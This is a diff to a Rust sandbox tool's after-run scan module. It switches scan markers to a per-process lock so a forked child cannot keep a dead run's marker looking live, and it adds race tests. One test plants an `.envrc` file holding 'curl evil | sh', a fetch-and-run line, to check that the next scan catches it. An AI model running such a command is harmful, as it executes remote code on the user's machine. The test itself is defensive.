@@ -8,7 +8,11 @@
 //! The scan must happen even when this cordon does not live to do it (an agent host kills it
 //! at its timeout), and must not be cut short by a command that fills the root with names. So
 //! each run leaves a *marker* beside the audit log (a directory the sandbox never reaches),
-//! locked for as long as the run's cordon lives:
+//! locked for as long as the run's cordon lives — with a `cordon_fs::lock::ProcessLock`, which
+//! no process it forks or clones holds (a `flock` is held by every copy of its descriptor: a
+//! child of another run of the same `cordon mcp` between its fork and exec, bwrap's pid 1 or
+//! the Landlock backend's init before they close what they copied, made a dead run's marker, or
+//! one a check had just locked, look live):
 //!
 //! ```text
 //!  LOGDIR/scans/run-PID-STAMP     roots, start time, state (running | incomplete)
@@ -42,6 +46,7 @@
 use std::path::{Path, PathBuf};
 
 use cordon_approval::audit::{AfterRunFinding, AuditLog, By, Kind, Record};
+use cordon_fs::lock::ProcessLock;
 use cordon_ossandbox::{Change, Enforcement, Finding, Handling, MissingPlace, SCAN_MAX_ENTRIES};
 use cordon_policy::Action;
 
@@ -142,7 +147,7 @@ pub fn before_discovery() {
                     &[],
                     Some(&their_log),
                 );
-                let _ = dead.dir.write(&dead.rel, text.as_bytes(), 0o600);
+                let _ = dead.rewrite(&text);
             }
         }
     }
@@ -195,17 +200,38 @@ fn check_stores(stores: &[MissingPlace], log: &Path) {
 struct Dead {
     dir: cordon_fs::safe::Dir,
     rel: PathBuf,
-    /// Holds the lock while the dead run's scan is done.
-    _lock: std::fs::File,
+    /// Holds the lock while the dead run's scan is done; `Err`: why its liveness could not
+    /// be checked (then it is refused like a marker cordon did not write).
+    lock: Result<ProcessLock, String>,
     shown: PathBuf,
 }
 
 impl Dead {
+    /// Says `text` now (its trust-store part done), in place, through the locked descriptor:
+    /// a new file put under its name (the link-safe replace) would be unlocked, and another
+    /// cordon would take it for a dead run's and do the same scan alongside this one. A kill
+    /// between the write and the truncation leaves a text that is no marker: refused, naming
+    /// the file, never acted on.
+    fn rewrite(&self, text: &str) -> std::io::Result<()> {
+        use std::os::unix::fs::FileExt;
+        let Ok(lock) = &self.lock else {
+            return Ok(()); // never read, never rewritten: refused as it is
+        };
+        lock.file().write_all_at(text.as_bytes(), 0)?;
+        lock.file().set_len(text.len() as u64)
+    }
+
     /// Its text, parsed; `Err` with the refusal when it is not a marker cordon wrote.
     fn parsed(&self) -> Result<Said, String> {
-        let text = self
-            .dir
-            .read(&self.rel, 1 << 20)
+        // Read through the locked descriptor: opening the file again and closing it would
+        // release this process's lock (see `cordon_fs::lock::ProcessLock`).
+        let lock = self.lock.as_ref().map_err(|why| {
+            format!(
+                "{}: {why}; check what it is and delete it",
+                self.shown.display()
+            )
+        })?;
+        let text = read_locked(lock.file(), 1 << 20)
             .ok()
             .flatten()
             .and_then(|b| String::from_utf8(b).ok());
@@ -217,6 +243,61 @@ impl Dead {
         };
         Ok(m)
     }
+}
+
+/// At most `max` bytes of `file` from its start (`None`: more than that).
+fn read_locked(file: &std::fs::File, max: usize) -> std::io::Result<Option<Vec<u8>>> {
+    use std::os::unix::fs::FileExt;
+    let mut bytes = vec![0; max + 1];
+    let mut got = 0;
+    while got < bytes.len() {
+        match file.read_at(&mut bytes[got..], got as u64) {
+            Ok(0) => break,
+            Ok(n) => got += n,
+            Err(e) if e.kind() == std::io::ErrorKind::Interrupted => {}
+            Err(e) => return Err(e),
+        }
+    }
+    bytes.truncate(got);
+    Ok((got <= max).then_some(bytes))
+}
+
+/// The marker `name` in `d` locked by this process, if no process (this one included) holds
+/// its lock: its run's cordon is gone, or never took it. `Ok(None)` when one holds it, or it
+/// is gone or not a regular file; `Err` when it cannot be checked (it cannot be opened to
+/// write, which a record write lock needs: a mode changed by hand). Never opens a marker
+/// this process holds (closing that descriptor would release the lock, see
+/// `cordon_fs::lock::ProcessLock`), and never through a link.
+fn lock_if_free(d: &cordon_fs::safe::Dir, name: &Path) -> Result<Option<ProcessLock>, String> {
+    use rustix::fs::{FileType, Mode, OFlags};
+    let regular =
+        |st: &rustix::fs::Stat| FileType::from_raw_mode(st.st_mode) == FileType::RegularFile;
+    let Some(st) = d.stat_at(name).ok().flatten() else {
+        return Ok(None);
+    };
+    if !regular(&st) || ProcessLock::held_here(&st) {
+        return Ok(None);
+    }
+    let fd = match rustix::fs::openat(
+        d,
+        name,
+        OFlags::RDWR | OFlags::NOFOLLOW | OFlags::NONBLOCK | OFlags::NOCTTY | OFlags::CLOEXEC,
+        Mode::empty(),
+    ) {
+        Ok(fd) => fd,
+        Err(rustix::io::Errno::NOENT | rustix::io::Errno::LOOP) => return Ok(None),
+        Err(e) => {
+            return Err(format!(
+                "cannot open it to check whether its run's cordon is alive ({e})"
+            ))
+        }
+    };
+    match rustix::fs::fstat(&fd) {
+        Ok(st) if regular(&st) => {}
+        _ => return Ok(None),
+    }
+    ProcessLock::try_take(std::fs::File::from(fd))
+        .map_err(|e| format!("cannot check whether its run's cordon is alive ({e})"))
 }
 
 /// The markers in `dir` whose cordon is gone (see the module's documentation); removes a
@@ -235,14 +316,21 @@ fn dead_markers(dir: &Path) -> Vec<Dead> {
             // A marker whose cordon died before renaming it into place (before its run): gone
             // with it unless its lock is still held. Only an old one: a fresh one may be
             // between its creation and its lock.
-            if let Ok(Some(file)) = d.open_file(&rel) {
-                let old = file
-                    .metadata()
-                    .and_then(|m| m.modified())
-                    .ok()
-                    .and_then(|t| t.elapsed().ok())
-                    .is_some_and(|age| age > std::time::Duration::from_secs(600));
-                if old && try_lock(&file) {
+            let old = d
+                .stat_at(&rel)
+                .ok()
+                .flatten()
+                .and_then(|st| {
+                    let t = std::time::UNIX_EPOCH
+                        + std::time::Duration::new(
+                            u64::try_from(st.st_mtime).ok()?,
+                            u32::try_from(st.st_mtime_nsec).ok()?,
+                        );
+                    t.elapsed().ok()
+                })
+                .is_some_and(|age| age > std::time::Duration::from_secs(600));
+            if old {
+                if let Ok(Some(_gone)) = lock_if_free(&d, &rel) {
                     let _ = d.remove(&rel);
                 }
             }
@@ -251,23 +339,31 @@ fn dead_markers(dir: &Path) -> Vec<Dead> {
         if !name.to_string_lossy().starts_with("run-") {
             continue;
         }
-        let Ok(Some(file)) = d.open_file(&rel) else {
-            continue;
+        let lock = match lock_if_free(&d, &rel) {
+            Ok(Some(lock)) => lock,
+            Ok(None) => continue, // a live run's: its own cordon scans
+            // Not taken for a live run's: the next run over its roots is refused, saying why.
+            Err(why) => {
+                let Ok(dir_again) = cordon_fs::safe::Dir::anchor(dir) else {
+                    continue;
+                };
+                dead.push(Dead {
+                    dir: dir_again,
+                    shown: dir.join(&rel),
+                    rel,
+                    lock: Err(why),
+                });
+                continue;
+            }
         };
-        if !try_lock(&file) {
-            continue; // a live run's: its own cordon scans
-        }
         // Its run may have finished (and removed it) between our open and our lock: only a
-        // marker still under its name is a dead run's.
+        // marker still under its name is a dead run's. (A `stat` of the name, not an open:
+        // see `lock_if_free`.)
         let still_there = {
-            use std::os::unix::fs::MetadataExt;
-            let ours = file.metadata().ok().map(|m| (m.dev(), m.ino()));
-            let named = d
-                .open_file(&rel)
+            let ours = rustix::fs::fstat(lock.file())
                 .ok()
-                .flatten()
-                .and_then(|f| f.metadata().ok())
-                .map(|m| (m.dev(), m.ino()));
+                .map(|m| (m.st_dev, m.st_ino));
+            let named = d.stat_at(&rel).ok().flatten().map(|m| (m.st_dev, m.st_ino));
             ours.is_some() && ours == named
         };
         if !still_there {
@@ -280,7 +376,7 @@ fn dead_markers(dir: &Path) -> Vec<Dead> {
             dir: dir_again,
             shown: dir.join(&rel),
             rel,
-            _lock: file,
+            lock: Ok(lock),
         });
     }
     dead
@@ -338,11 +434,13 @@ fn write_new(
     })
 }
 
-/// A run's marker: the file, its descriptor (holding the lock) and what it says.
+/// A run's marker: the file, its lock (held by this process alone, so that no child of it
+/// keeps the marker looking live after this process ended or let go, see
+/// `cordon_fs::lock::ProcessLock`) and what it says.
 struct Marker {
     dir: cordon_fs::safe::Dir,
     name: PathBuf,
-    _lock: std::fs::File,
+    _lock: ProcessLock,
     roots: Vec<PathBuf>,
     log: PathBuf,
     started: std::time::SystemTime,
@@ -458,10 +556,6 @@ fn parse_marker(text: &str) -> Option<Said> {
     })
 }
 
-fn try_lock(f: &std::fs::File) -> bool {
-    rustix::fs::flock(f, rustix::fs::FlockOperation::NonBlockingLockExclusive).is_ok()
-}
-
 impl Marker {
     fn create(
         dir: &Path,
@@ -502,10 +596,17 @@ impl Marker {
                 Err((_, e)) => return Err(e),
             }
         };
-        if !try_lock(&file) {
-            let _ = dir.remove(&fresh);
-            return Err("cannot lock it".into());
-        }
+        let lock = match ProcessLock::try_take(file) {
+            Ok(Some(lock)) => lock,
+            Ok(None) => {
+                let _ = dir.remove(&fresh);
+                return Err("cannot lock it: held by another process".into());
+            }
+            Err(e) => {
+                let _ = dir.remove(&fresh);
+                return Err(format!("cannot lock it: {e}"));
+            }
+        };
         if let Err(e) = dir.rename_noreplace(&fresh, &name) {
             let _ = dir.remove(&fresh);
             return Err(e.to_string());
@@ -513,11 +614,16 @@ impl Marker {
         Ok(Marker {
             dir,
             name,
-            _lock: file,
+            _lock: lock,
             roots: roots.to_vec(),
             log: log.to_path_buf(),
             started,
         })
+    }
+
+    #[cfg(test)]
+    fn file(&self) -> &std::fs::File {
+        self._lock.file()
     }
 
     /// The scan completed: the marker goes, and the directory when it is empty (what stays is
@@ -569,7 +675,7 @@ fn recover(dir: &Path, roots: &[PathBuf], log: &Path, session: &str) -> Result<(
                 continue;
             }
             let text = marker_text(&theirs, started, &state, &[], their_log.as_deref());
-            let _ = dead.dir.write(&dead.rel, text.as_bytes(), 0o600);
+            let _ = dead.rewrite(&text);
         }
         if !theirs.iter().any(|t| roots.iter().any(|r| meet(t, r))) {
             continue; // another project's: its next run scans it
@@ -860,23 +966,276 @@ mod tests {
         );
     }
 
-    /// `pending`'s refusal of a run over `roots`. A dead run's marker is told from a live one's
-    /// by its lock, which a process forked meanwhile by another test of this binary (one that
-    /// runs a command) shares until its exec closes the descriptor: then the marker looks live
-    /// for that moment and the run is let through. Asked again (the run's own marker removed)
-    /// until refused, for at most 30 s.
+    /// `pending`'s refusal of a run over `roots`. (It was asked for again until refused, for
+    /// up to 30 s: a process forked by another test of this binary held a copy of an earlier
+    /// check's lock, and the marker looked live. A marker's liveness is no longer a lock a
+    /// child can hold: see `runs_are_refused_while_other_threads_start_processes`.)
     fn refused(roots: &[PathBuf], log: &Path) -> String {
-        let until = std::time::Instant::now() + std::time::Duration::from_secs(30);
-        loop {
-            match pending(roots, log, "s") {
-                Err(e) => return e,
-                Ok(Some(p)) if std::time::Instant::now() < until => {
-                    p.finish(&[]);
-                    std::thread::sleep(std::time::Duration::from_millis(10));
-                }
-                Ok(_) => panic!("a run over {roots:?} was not refused within 30 s"),
-            }
+        match pending(roots, log, "s") {
+            Err(e) => e,
+            Ok(_) => panic!("a run over {roots:?} was not refused"),
         }
+    }
+
+    /// A child process that holds a copy of `f`'s descriptor (inherited: close-on-exec cleared
+    /// for the spawn) until it is killed: what a command's child holds between its fork and
+    /// its exec when another run of the same `cordon mcp` starts it, or a clone of cordon
+    /// before it closes what it copied.
+    fn child_holding(f: &std::fs::File) -> std::process::Child {
+        use rustix::io::{fcntl_setfd, FdFlags};
+        fcntl_setfd(f, FdFlags::empty()).unwrap();
+        let child = std::process::Command::new("sleep")
+            .arg("300")
+            .stdin(std::process::Stdio::null())
+            .stdout(std::process::Stdio::null())
+            .spawn();
+        fcntl_setfd(f, FdFlags::CLOEXEC).unwrap();
+        let child = child.unwrap();
+        let fd = std::os::fd::AsRawFd::as_raw_fd(f);
+        assert!(
+            std::fs::read_link(format!("/proc/{}/fd/{fd}", child.id())).is_ok(),
+            "the child holds the marker's descriptor"
+        );
+        child
+    }
+
+    fn workspace() -> (tempfile::TempDir, PathBuf, Vec<PathBuf>, PathBuf) {
+        let d = tempfile::tempdir().unwrap();
+        let base = d.path().canonicalize().unwrap();
+        for p in ["ws", "state"] {
+            std::fs::create_dir(base.join(p)).unwrap();
+        }
+        let log = base.join("state/audit.jsonl");
+        let roots = vec![base.join("ws")];
+        (d, base, roots, log)
+    }
+
+    /// The marker of a run whose scan could not complete, when another run has just checked
+    /// it: the checker locked it, and a child forked meanwhile by a third run of the same
+    /// `cordon mcp` (between its fork and its exec) still holds a copy of the checker's
+    /// locked descriptor. A run over its roots is still refused (issue 21: before, the
+    /// marker looked live for as long as the child held the copy, and the run was let
+    /// through; seen as a flake of the test above).
+    #[test]
+    fn a_child_holding_a_checkers_descriptor_does_not_make_a_marker_live() {
+        let (_d, base, roots, log) = workspace();
+        pending(&roots, &log, "s")
+            .unwrap()
+            .unwrap()
+            .finish(&["after"]);
+        let marker = std::fs::read_dir(base.join("state/scans"))
+            .unwrap()
+            .map(|e| e.unwrap().path())
+            .find(|p| p.file_name().unwrap().to_string_lossy().starts_with("run-"))
+            .expect("the marker");
+        // The earlier checker's descriptor, locked as it locked it, copied into a child.
+        let checker = std::fs::File::open(&marker).unwrap();
+        rustix::fs::flock(&checker, rustix::fs::FlockOperation::LockExclusive).unwrap();
+        let mut child = child_holding(&checker);
+        drop(checker);
+        let next = pending(&roots, &log, "s");
+        child.kill().unwrap();
+        child.wait().unwrap();
+        match next {
+            Err(e) => assert!(e.contains("could not complete"), "{e}"),
+            Ok(_) => panic!("a run over the roots of an incomplete scan was let through"),
+        }
+    }
+
+    /// The same race with nothing staged: runs over the roots of an incomplete scan are asked
+    /// for again and again while another thread starts processes (what a `cordon mcp` does
+    /// with its other commands); every one is refused.
+    #[test]
+    fn runs_are_refused_while_other_threads_start_processes() {
+        let (_d, _base, roots, log) = workspace();
+        pending(&roots, &log, "s")
+            .unwrap()
+            .unwrap()
+            .finish(&["after"]);
+        let stop = std::sync::atomic::AtomicBool::new(false);
+        let (let_through, refusals, started) = std::thread::scope(|s| {
+            let starter = s.spawn(|| {
+                let mut n = 0u32;
+                while !stop.load(std::sync::atomic::Ordering::Relaxed) {
+                    let _ = std::process::Command::new("true").status();
+                    n += 1;
+                }
+                n
+            });
+            let until = std::time::Instant::now() + std::time::Duration::from_secs(3);
+            let (mut through, mut refusals) = (0, 0);
+            while std::time::Instant::now() < until {
+                match pending(&roots, &log, "s") {
+                    Ok(Some(p)) => {
+                        through += 1;
+                        p.finish(&[]);
+                    }
+                    Ok(None) => unreachable!("a log with a directory"),
+                    Err(_) => refusals += 1,
+                }
+            }
+            stop.store(true, std::sync::atomic::Ordering::Relaxed);
+            (through, refusals, starter.join().unwrap())
+        });
+        assert!(
+            refusals > 0 && started > 0,
+            "{refusals} checks, {started} processes"
+        );
+        assert_eq!(
+            let_through, 0,
+            "runs let through over an incomplete scan's roots"
+        );
+    }
+
+    /// A dead run's marker that cannot be opened to write (its mode changed by hand) cannot be
+    /// locked to check its run: the next run over its roots is refused, naming it, instead of
+    /// taking it for a live run's and going ahead without its scan. As root the mode does not
+    /// stop the open: the dead run's scan is done.
+    #[test]
+    fn a_marker_that_cannot_be_checked_refuses_the_run() {
+        use std::os::unix::fs::PermissionsExt;
+        let (_d, base, roots, log) = workspace();
+        // Its cordon gone without finishing (the lock released, the marker left).
+        drop(pending(&roots, &log, "s").unwrap().unwrap());
+        let marker = std::fs::read_dir(base.join("state/scans"))
+            .unwrap()
+            .map(|e| e.unwrap().path())
+            .find(|p| p.file_name().unwrap().to_string_lossy().starts_with("run-"))
+            .expect("the marker");
+        std::fs::set_permissions(&marker, std::fs::Permissions::from_mode(0o400)).unwrap();
+        let next = pending(&roots, &log, "s");
+        if rustix::process::geteuid().is_root() {
+            next.expect("root opens it").unwrap().finish(&[]);
+            assert!(!marker.exists(), "the dead run's scan was done");
+        } else {
+            let e = next.err().expect("refused");
+            assert!(e.contains("cannot open it to check"), "{e}");
+            assert!(e.contains(&marker.display().to_string()), "{e}");
+        }
+    }
+
+    /// A dead run's marker rewritten once its trust-store part is done stays the locked file
+    /// (before: a new file under its name, unlocked while its roots were still being scanned,
+    /// which another cordon would take for a dead run's and scan alongside).
+    #[test]
+    fn a_dead_marker_rewritten_during_its_scan_stays_locked() {
+        let (_d, base, roots, log) = workspace();
+        let t = std::time::SystemTime::now();
+        let text = marker_text(
+            &roots,
+            t,
+            "running",
+            &[MissingPlace::recorded(
+                base.join("ws"),
+                base.join("ws/.config/cordon"),
+                vec![],
+            )],
+            Some(&log),
+        );
+        std::fs::create_dir(base.join("state/scans")).unwrap();
+        let path = base.join("state/scans/run-dead");
+        std::fs::write(&path, &text).unwrap();
+        let dead = dead_markers(&base.join("state/scans"));
+        let [dead] = dead.as_slice() else {
+            panic!("one dead marker")
+        };
+        let said = dead.parsed().unwrap();
+        let shorter = marker_text(
+            &said.roots,
+            said.started,
+            &said.state,
+            &[],
+            said.log.as_deref(),
+        );
+        dead.rewrite(&shorter).unwrap();
+        use std::os::unix::fs::MetadataExt;
+        let named = std::fs::metadata(&path).unwrap();
+        let locked = rustix::fs::fstat(dead.lock.as_ref().unwrap().file()).unwrap();
+        assert_eq!(
+            (named.dev(), named.ino()),
+            (locked.st_dev, locked.st_ino),
+            "the name still holds the locked file"
+        );
+        assert_eq!(std::fs::read_to_string(&path).unwrap(), shorter);
+        assert!(parse_marker(&shorter).unwrap().stores.is_empty());
+    }
+
+    /// Kills the process `pid` (a `sleep` a test started) when dropped.
+    struct Reap(i32);
+    impl Drop for Reap {
+        fn drop(&mut self) {
+            // SAFETY: kill takes two integers; `self.0` is a process this test started.
+            unsafe { libc::kill(self.0, libc::SIGKILL) };
+        }
+    }
+
+    /// The dead run of [`a_dead_runs_marker_is_not_kept_live_by_its_childs_copy`], in a
+    /// process of its own (this test binary, started by that test): it leaves its marker, a
+    /// child holding the marker's descriptor, says the child's pid, and waits to be killed.
+    #[test]
+    #[ignore = "the dead run of a_dead_runs_marker_is_not_kept_live_by_its_childs_copy"]
+    fn dead_run_helper() {
+        let Some(base) = std::env::var_os("CORDON_TEST_DEAD_RUN").map(PathBuf::from) else {
+            return;
+        };
+        let p = pending(&[base.join("ws")], &base.join("state/audit.jsonl"), "s")
+            .unwrap()
+            .unwrap();
+        let mut child = child_holding(p.0.file());
+        std::fs::write(base.join("child.new"), child.id().to_string()).unwrap();
+        std::fs::rename(base.join("child.new"), base.join("child")).unwrap();
+        std::mem::forget(p);
+        // SIGKILLed by the test while it waits here; the child outlives it (the test kills it).
+        let _ = child.wait();
+        loop {
+            std::thread::park();
+        }
+    }
+
+    /// A SIGKILLed run's scan is done by the next run over its roots, although a child of the
+    /// dead cordon still holds a copy of its marker's descriptor (before: the marker looked
+    /// live while the child lived, and the next run went ahead with the plant in place).
+    #[test]
+    fn a_dead_runs_marker_is_not_kept_live_by_its_childs_copy() {
+        let (_d, base, roots, log) = workspace();
+        let mut dead = std::process::Command::new(std::env::current_exe().unwrap())
+            .args([
+                "--exact",
+                "after_run::tests::dead_run_helper",
+                "--ignored",
+                "--test-threads=1",
+            ])
+            .env("CORDON_TEST_DEAD_RUN", &base)
+            .stdout(std::process::Stdio::null())
+            .spawn()
+            .unwrap();
+        let until = std::time::Instant::now() + std::time::Duration::from_secs(120);
+        let grandchild = loop {
+            if let Ok(pid) = std::fs::read_to_string(base.join("child")) {
+                break Reap(pid.parse().unwrap());
+            }
+            if let Some(st) = dead.try_wait().unwrap() {
+                panic!("the dead run's process ended early: {st}");
+            }
+            assert!(
+                std::time::Instant::now() < until,
+                "the dead run never started"
+            );
+            std::thread::sleep(std::time::Duration::from_millis(20));
+        };
+        // What its command planted, then cordon killed.
+        std::fs::write(base.join("ws/.envrc"), "curl evil | sh\n").unwrap();
+        dead.kill().unwrap();
+        dead.wait().unwrap();
+        let next = pending(&roots, &log, "s");
+        let planted_stays = base.join("ws/.envrc").exists();
+        drop(grandchild);
+        let next = next.expect("the dead run's scan completes");
+        next.unwrap().finish(&[]);
+        assert!(
+            !planted_stays,
+            "the dead run's scan was skipped: its marker looked live"
+        );
     }
 
     /// A marker keeps a dead run's trust-store watches exactly (root, place, what existed on
